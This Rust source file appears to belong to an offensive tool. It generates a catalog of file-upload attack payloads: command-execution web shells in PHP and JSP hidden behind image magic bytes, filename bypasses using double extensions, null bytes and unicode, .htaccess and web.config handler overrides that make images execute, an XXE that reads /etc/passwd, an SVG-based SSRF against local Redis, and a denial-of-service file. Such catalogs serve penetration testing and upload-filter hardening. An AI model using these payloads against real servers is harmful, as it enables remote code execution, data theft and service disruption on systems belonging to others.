use serde::Serialize;
use std::fmt;

use super::shells;

const GIF_MAGIC: &[u8] = b"GIF89a";
const JPEG_MAGIC: &[u8] = &[0xFF, 0xD8, 0xFF, 0xE0];
const PNG_MAGIC: &[u8] = &[0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A];
const ZIP_MAGIC: &[u8] = b"PK\x03\x04";
const RAR_MAGIC: &[u8] = b"Rar!\x1A\x07\x00";

/// Size of the denial-of-service payload body.
pub const LARGE_FILE_SIZE: usize = 10_000_000;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum PayloadCategory {
    WebShellPhp,
    WebShellJsp,
    WebShellAspx,
    WebShellAsp,
    ImageEmbeddedPhp,
    ImageEmbeddedJsp,
    Polyglot,
    DoubleExtension,
    NullByteInjection,
    HtaccessAttack,
    ConfigInjection,
    MimeSpoofing,
    SpecialCharacters,
    UnicodeBypass,
    LargeFile,
    XmlExternalEntity,
    WebdavPut,
    ArchiveExploitation,
    SsrfViaUpload,
}

impl PayloadCategory {
    pub const ALL: [PayloadCategory; 19] = [
        Self::WebShellPhp,
        Self::WebShellJsp,
        Self::WebShellAspx,
        Self::WebShellAsp,
        Self::ImageEmbeddedPhp,
        Self::ImageEmbeddedJsp,
        Self::Polyglot,
        Self::DoubleExtension,
        Self::NullByteInjection,
        Self::HtaccessAttack,
        Self::ConfigInjection,
        Self::MimeSpoofing,
        Self::SpecialCharacters,
        Self::UnicodeBypass,
        Self::LargeFile,
        Self::XmlExternalEntity,
        Self::WebdavPut,
        Self::ArchiveExploitation,
        Self::SsrfViaUpload,
    ];

    pub fn as_str(&self) -> &'static str {
        match self {
            Self::WebShellPhp => "web_shell_php",
            Self::WebShellJsp => "web_shell_jsp",
            Self::WebShellAspx => "web_shell_aspx",
            Self::WebShellAsp => "web_shell_asp",
            Self::ImageEmbeddedPhp => "image_embedded_php",
            Self::ImageEmbeddedJsp => "image_embedded_jsp",
            Self::Polyglot => "polyglot",
            Self::DoubleExtension => "double_extension",
            Self::NullByteInjection => "null_byte_injection",
            Self::HtaccessAttack => "htaccess_attack",
            Self::ConfigInjection => "config_injection",
            Self::MimeSpoofing => "mime_spoofing",
            Self::SpecialCharacters => "special_characters",
            Self::UnicodeBypass => "unicode_bypass",
            Self::LargeFile => "large_file",
            Self::XmlExternalEntity => "xml_external_entity",
            Self::WebdavPut => "webdav_put",
            Self::ArchiveExploitation => "archive_exploitation",
            Self::SsrfViaUpload => "ssrf_via_upload",
        }
    }

    /// Parse a category name as printed by [`as_str`](Self::as_str). Hyphens are accepted.
    pub fn parse(name: &str) -> Option<Self> {
        let normalized = name.trim().to_ascii_lowercase().replace('-', "_");
        Self::ALL.into_iter().find(|c| c.as_str() == normalized)
    }
}

impl fmt::Display for PayloadCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One file-upload attack body with the metadata sent alongside it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadEntry {
    pub filename: String,
    pub content_type: String,
    pub content: Vec<u8>,
    pub description: String,
    pub category: PayloadCategory,
}

impl PayloadEntry {
    fn new(
        filename: impl Into<String>,
        content_type: impl Into<String>,
        content: impl Into<Vec<u8>>,
        description: impl Into<String>,
        category: PayloadCategory,
    ) -> Self {
        Self {
            filename: filename.into(),
            content_type: content_type.into(),
            content: content.into(),
            description: description.into(),
            category,
        }
    }
}

fn prefixed(magic: &[u8], code: &str) -> Vec<u8> {
    let mut content = Vec::with_capacity(magic.len() + code.len());
    content.extend_from_slice(magic);
    content.extend_from_slice(code.as_bytes());
    content
}

/// Build the full catalog. Same entries, same order, every call.
pub fn generate() -> Vec<PayloadEntry> {
    let mut entries = Vec::with_capacity(96);
    entries.extend(web_shells());
    entries.extend(image_embedded());
    entries.extend(polyglots());
    entries.extend(double_extensions());
    entries.extend(null_bytes());
    entries.extend(htaccess());
    entries.extend(config_injection());
    entries.extend(mime_spoofing());
    entries.extend(special_characters());
    entries.extend(unicode_bypass());
    entries.push(large_file());
    entries.push(xxe());
    entries.push(webdav());
    entries.extend(archives());
    entries.push(ssrf_svg());
    entries
}

fn web_shells() -> Vec<PayloadEntry> {
    use PayloadCategory::*;
    vec![
        PayloadEntry::new("shell.php", "image/jpeg", shells::php_basic(), "Basic PHP Web Shell", WebShellPhp),
        PayloadEntry::new("upload.php", "image/png", shells::php_obfuscated(), "Obfuscated PHP Web Shell", WebShellPhp),
        PayloadEntry::new("img.php.jpg", "image/gif", shells::php_basic(), "PHP Shell with Double Extension", WebShellPhp),
        PayloadEntry::new("cmd.php", "application/x-php", shells::php_system(), "PHP System Shell", WebShellPhp),
        PayloadEntry::new("eval.php", "text/plain", shells::php_eval(), "PHP Eval Shell", WebShellPhp),
        PayloadEntry::new("b64.php", "text/plain", shells::php_base64(), "Base64 Encoded PHP Shell", WebShellPhp),
        PayloadEntry::new("vfunc.php", "image/jpeg", shells::php_variable_function(), "PHP Variable Function Shell", WebShellPhp),
        PayloadEntry::new("shell.jsp", "image/jpeg", shells::jsp_reader(), "JSP Web Shell", WebShellJsp),
        PayloadEntry::new("cmd.jsp", "application/x-jsp", shells::jsp_exec(), "JSP System Shell", WebShellJsp),
        PayloadEntry::new("shell.aspx", "image/jpeg", shells::aspx_process_start_info(), "ASPX Web Shell", WebShellAspx),
        PayloadEntry::new("cmd.aspx", "text/plain", shells::aspx_process(), "ASPX System Shell", WebShellAspx),
        PayloadEntry::new("shell.asp", "image/gif", shells::asp_classic(), "ASP Classic Web Shell", WebShellAsp),
    ]
}

fn image_embedded() -> Vec<PayloadEntry> {
    use PayloadCategory::*;
    let php = shells::php_basic();
    let jsp = "<%@ page import='java.io.*' %><%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>";
    vec![
        PayloadEntry::new("shell.php.gif", "image/gif", prefixed(GIF_MAGIC, &php), "GIF Header + PHP Code", ImageEmbeddedPhp),
        PayloadEntry::new("image.jpg.php", "image/jpeg", prefixed(JPEG_MAGIC, &php), "JPEG Header + PHP Code", ImageEmbeddedPhp),
        PayloadEntry::new("pic.png.php", "image/png", prefixed(PNG_MAGIC, &php), "PNG Header + PHP Code", ImageEmbeddedPhp),
        PayloadEntry::new("shell.jsp.gif", "image/gif", prefixed(GIF_MAGIC, jsp), "GIF Header + JSP Code", ImageEmbeddedJsp),
    ]
}

fn polyglots() -> Vec<PayloadEntry> {
    let php_jsp = "<% /* <?php system($_GET['c']); ?> */ %><%@ page import='java.io.*' %>\
                   <%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>";
    vec![
        PayloadEntry::new(
            "polyglot.php.gif",
            "image/gif",
            prefixed(GIF_MAGIC, "<script language='php'>system($_GET['cmd']);</script>"),
            "GIF + PHP Polyglot",
            PayloadCategory::Polyglot,
        ),
        PayloadEntry::new(
            "polyglot.php.jpg",
            "image/jpeg",
            prefixed(JPEG_MAGIC, "<?php system($_GET['cmd']); ?>"),
            "JPEG + PHP Polyglot",
            PayloadCategory::Polyglot,
        ),
        PayloadEntry::new("polyglot.jsp.php", "text/plain", php_jsp, "PHP + JSP Polyglot", PayloadCategory::Polyglot),
    ]
}

fn double_extensions() -> Vec<PayloadEntry> {
    const SCRIPT_EXTS: [&str; 7] = ["php", "php5", "php7", "phtml", "pht", "phps", "inc"];
    const IMAGE_EXTS: [&str; 5] = ["jpg", "jpeg", "png", "gif", "bmp"];

    let php = shells::php_basic();
    let mut entries: Vec<PayloadEntry> = SCRIPT_EXTS
        .iter()
        .flat_map(|ext| IMAGE_EXTS.iter().map(move |img| (*ext, *img)))
        .map(|(ext, img)| {
            PayloadEntry::new(
                format!("shell.{}.{}", img, ext),
                format!("image/{}", img),
                php.clone(),
                format!("Double Extension: {}.{}", img, ext),
                PayloadCategory::DoubleExtension,
            )
        })
        .collect();

    entries.push(PayloadEntry::new(
        "file.php.jpg.php",
        "image/jpeg",
        php.clone(),
        "Triple Extension",
        PayloadCategory::DoubleExtension,
    ));
    entries.push(PayloadEntry::new(
        "shell.jpg.php5",
        "image/jpeg",
        php,
        "Double Extension with PHP5",
        PayloadCategory::DoubleExtension,
    ));
    entries
}

fn null_bytes() -> Vec<PayloadEntry> {
    use PayloadCategory::NullByteInjection;
    let php = shells::php_basic();
    vec![
        PayloadEntry::new("shell.php%00.jpg", "image/jpeg", php.clone(), "Null Byte Injection (URL encoded)", NullByteInjection),
        PayloadEntry::new("file.php\0.jpg", "image/jpeg", php.clone(), "Null Byte Injection (raw)", NullByteInjection),
        PayloadEntry::new("upload.php%00.png", "image/png", php, "Null Byte with PNG", NullByteInjection),
    ]
}

fn htaccess() -> Vec<PayloadEntry> {
    use PayloadCategory::HtaccessAttack;
    vec![
        PayloadEntry::new(
            ".htaccess",
            "text/plain",
            "<FilesMatch \"\\.jpg$\">\nSetHandler application/x-httpd-php\n</FilesMatch>",
            "Execute .jpg as PHP",
            HtaccessAttack,
        ),
        PayloadEntry::new(
            ".htaccess",
            "application/octet-stream",
            "AddType application/x-httpd-php .gif",
            "Execute .gif as PHP",
            HtaccessAttack,
        ),
        PayloadEntry::new(".htaccess", "text/plain", "RemoveHandler .php", "PHP Source Disclosure", HtaccessAttack),
        PayloadEntry::new(".htaccess", "text/plain", "Options +Indexes", "Enable Directory Listing", HtaccessAttack),
        PayloadEntry::new(".htaccess", "text/plain", "AddHandler server-parsed .html", "Enable SSI on HTML", HtaccessAttack),
    ]
}

fn config_injection() -> Vec<PayloadEntry> {
    use PayloadCategory::ConfigInjection;
    let asp_handler = [
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
        "<configuration>",
        "  <system.webServer>",
        "    <handlers accessPolicy=\"Read, Script, Execute\">",
        "      <add name=\"ASP\" path=\"*.jpg\" verb=\"*\" modules=\"IsapiModule\" \
         scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" requireAccess=\"None\" />",
        "    </handlers>",
        "    <security>",
        "      <requestFiltering>",
        "        <fileExtensions allowUnlisted=\"true\" />",
        "      </requestFiltering>",
        "    </security>",
        "  </system.webServer>",
        "</configuration>",
    ]
    .join("\n");
    let php_handler = [
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
        "<configuration>",
        "  <system.webServer>",
        "    <handlers>",
        "      <add name=\"PHP_via_FastCGI\" path=\"*.jpg\" verb=\"*\" modules=\"FastCgiModule\" \
         scriptProcessor=\"C:\\php\\php-cgi.exe\" resourceType=\"Unspecified\" />",
        "    </handlers>",
        "  </system.webServer>",
        "</configuration>",
    ]
    .join("\n");

    vec![
        PayloadEntry::new("web.config", "text/xml", asp_handler, "IIS Web Config - Execute .jpg as ASP", ConfigInjection),
        PayloadEntry::new("web.config", "text/xml", php_handler, "IIS Web Config - Execute .jpg as PHP", ConfigInjection),
        PayloadEntry::new(
            ".user.ini",
            "text/plain",
            "auto_prepend_file = uploaded_shell.php",
            "PHP-FPM user.ini - Auto prepend file",
            ConfigInjection,
        ),
    ]
}

fn mime_spoofing() -> Vec<PayloadEntry> {
    const SPOOFS: [(&str, &str, &str); 5] = [
        ("shell.php", "image/jpeg", "PHP with JPEG MIME"),
        ("cmd.php", "image/png", "PHP with PNG MIME"),
        ("shell.php5", "application/octet-stream", "PHP with Octet-stream MIME"),
        ("file.php", "text/plain", "PHP with Text MIME"),
        ("upload.php", "application/x-shockwave-flash", "PHP with Flash MIME"),
    ];
    let php = shells::php_basic();
    SPOOFS
        .iter()
        .map(|(name, ct, desc)| PayloadEntry::new(*name, *ct, php.clone(), *desc, PayloadCategory::MimeSpoofing))
        .collect()
}

fn special_characters() -> Vec<PayloadEntry> {
    const NAMES: [&str; 10] = [
        "shell.pHp",
        "file.PHP",
        "cmd.Php5",
        "upload.php.",
        "shell.php ",
        "file.php::$DATA",
        "shell.php%20",
        "upload.php%2ejpg",
        "file.php%00",
        "shell.asp.jpg",
    ];
    let php = shells::php_basic();
    let mut entries: Vec<PayloadEntry> = NAMES
        .iter()
        .map(|name| {
            PayloadEntry::new(
                *name,
                "image/jpeg",
                php.clone(),
                format!("Special Character: {}", name),
                PayloadCategory::SpecialCharacters,
            )
        })
        .collect();
    entries.push(PayloadEntry::new("file...php", "image/jpeg", php.clone(), "Multiple Dots", PayloadCategory::SpecialCharacters));
    entries.push(PayloadEntry::new("shell.php/", "image/jpeg", php, "Trailing Slash", PayloadCategory::SpecialCharacters));
    entries
}

fn unicode_bypass() -> Vec<PayloadEntry> {
    const NAMES: [&str; 5] = [
        "shell\u{0000}.php",
        "file\u{202e}.php",
        "shell\u{202d}.php",
        "upload\u{ff0e}.php",
        "shell\u{ff0e}jpg",
    ];
    let php = shells::php_basic();
    NAMES
        .iter()
        .map(|name| {
            PayloadEntry::new(
                *name,
                "image/jpeg",
                php.clone(),
                format!("Unicode Bypass: {}", name.escape_unicode()),
                PayloadCategory::UnicodeBypass,
            )
        })
        .collect()
}

fn large_file() -> PayloadEntry {
    PayloadEntry::new(
        "large.txt",
        "text/plain",
        vec![b'A'; LARGE_FILE_SIZE],
        "Large File (DoS) - 10MB",
        PayloadCategory::LargeFile,
    )
}

fn xxe() -> PayloadEntry {
    let body = [
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
        "<!DOCTYPE foo [",
        "  <!ELEMENT foo ANY >",
        "  <!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]>",
        "<foo>&xxe;</foo>",
    ]
    .join("\n");
    PayloadEntry::new("xxe.xml", "text/xml", body, "XXE - Read /etc/passwd", PayloadCategory::XmlExternalEntity)
}

fn webdav() -> PayloadEntry {
    PayloadEntry::new(
        "shell.php",
        "application/octet-stream",
        shells::php_basic(),
        "WebDAV PUT Method Upload",
        PayloadCategory::WebdavPut,
    )
}

fn archives() -> Vec<PayloadEntry> {
    use PayloadCategory::ArchiveExploitation;
    let php = shells::php_basic();
    vec![
        PayloadEntry::new("archive.zip", "application/zip", prefixed(ZIP_MAGIC, &php), "ZIP Archive with Embedded Shell", ArchiveExploitation),
        // tar has no leading magic
        PayloadEntry::new("archive.tar", "application/x-tar", php.clone(), "TAR Archive with Embedded Shell", ArchiveExploitation),
        PayloadEntry::new(
            "archive.rar",
            "application/x-rar-compressed",
            prefixed(RAR_MAGIC, &php),
            "RAR Archive with Embedded Shell",
            ArchiveExploitation,
        ),
    ]
}

fn ssrf_svg() -> PayloadEntry {
    let body = [
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
        "<!DOCTYPE svg [",
        "  <!ENTITY xxe SYSTEM \"http://127.0.0.1:6379/INFO\" >]>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\">",
        "  <text>&xxe;</text>",
        "</svg>",
    ]
    .join("\n");
    PayloadEntry::new("ssrf.svg", "image/svg+xml", body, "SSRF via SVG XXE - Local Redis", PayloadCategory::SsrfViaUpload)
}
